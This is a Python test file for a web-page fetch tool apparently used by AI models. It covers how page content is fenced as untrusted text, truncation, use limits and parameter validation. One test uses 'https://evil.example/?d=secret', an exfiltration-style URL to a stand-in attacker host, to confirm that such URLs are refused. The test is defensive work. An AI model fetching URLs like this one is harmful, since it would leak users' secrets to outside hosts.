"""The page tool: what a model reads of a page, what it is told of one that is not to be read, and its parameters."""

import json
from datetime import datetime
from typing import Any

import pytest

from fuseline.pages.base import PageFailed
from fuseline.tools.base import Scene
from fuseline.tools.containment import MOST_CHARACTERS
from fuseline.tools.research import Research
from fuseline.tools.toolbox import TOOLS, open_toolbox
from fuseline.tools.web_fetch import NAME, WebFetch
from fuseline.types.errors import InvalidRequest
from fuseline.types.messages import ToolCall
from fuseline.types.requests import ServerTool
from fuseline.types.tokens import estimate
from tests.requirements import requirement
from tests.tools.shelf import SEAT, Shelf, research

pytestmark = pytest.mark.anyio

A = "https://a.example/page"
FETCHES = sorted(name for name, maker in TOOLS.items() if maker is WebFetch)


async def told(tool: WebFetch, run: Research, url: str = A) -> Any:
    """What a model is told that calls the tool."""
    return json.loads((await tool(ToolCall("c", NAME, json.dumps({"url": url})), Scene(SEAT, run))).text)


@requirement("ours:contained")
async def test_a_page_is_its_title_and_its_text_marked_as_strangers():
    run = research(Shelf({A: "One.\u202e\r\n\r\n\r\nTwo."}), A)
    result = await told(WebFetch({}), run)
    assert datetime.fromisoformat(result.pop("retrieved_at")).tzinfo
    assert result == {
        "url": A,
        "title": f"Title of {A}",
        "content": f"<<<PAGE {run.code}>>>\n> One.\n> \n> Two.\n<<<END PAGE {run.code}>>>",
        "status": "completed",
    }


async def test_a_long_page_is_cut_and_says_so():
    run = research(Shelf({A: "word " * 20_000}), A)
    result = await told(WebFetch({}), run)
    assert len(result["content"]) < MOST_CHARACTERS + 100
    assert result["truncated"] == f"the first {MOST_CHARACTERS - 1} of 100000 characters"


@requirement("ours:tool-parameters")
async def test_a_page_is_cut_to_the_tokens_that_were_asked_for():
    result = await told(WebFetch({"max_content_tokens": 50}), research(Shelf({A: "word " * 20_000}), A))
    assert 40 < estimate(result["content"].splitlines()[1]) <= 55


@requirement("fault:F54")
async def test_of_a_page_that_is_not_to_be_read_a_model_is_told_one_word():
    run = research(Shelf({A: PageFailed("blocked:address", "url_not_allowed")}), A)
    assert await told(WebFetch({}), run) == {"url": A, "status": "failed", "error": "url_not_allowed"}
    unseen = "https://evil.example/?d=secret"
    assert (await told(WebFetch({}), run, unseen))["error"] == "url_not_in_context"


@requirement("ours:tool-parameters")
async def test_so_many_pages_are_read_and_the_model_is_told_that_it_was_the_last():
    shelf = Shelf({A: "One."})
    tool, run = WebFetch({"max_uses": 1}), research(shelf, A, "https://b.example/")
    assert (await told(tool, run))["status"] == "completed"
    assert "max_uses_reached" in (await told(tool, run, "https://b.example/"))["error"]
    assert shelf.fetched == [A]


@requirement("ours:tool-parameters")
@pytest.mark.parametrize("name", FETCHES)
def test_every_vendors_name_is_the_one_page_tool(name: str):
    declared = ServerTool(name, {"citations": {"enabled": True}, "max_uses": 3, "blocked_domains": ["a.example/x"]})
    assert [*open_toolbox([declared], "tools")[0]] == [NAME]


@requirement("ours:tool-parameters")
@pytest.mark.parametrize(
    ("wanted", "place"),
    [
        ({"engine": "curl"}, "engine"),
        ({"max_uses": 0}, "max_uses"),
        ({"max_content_tokens": 0}, "max_content_tokens"),
        ({"allowed_domains": [None]}, "allowed_domains[0]"),
    ],
)
def test_a_parameter_out_of_range_is_refused_by_its_path(wanted: dict[str, Any], place: str):
    with pytest.raises(InvalidRequest) as refused:
        WebFetch(wanted)
    assert refused.value.param == f"tools.parameters.{place}"
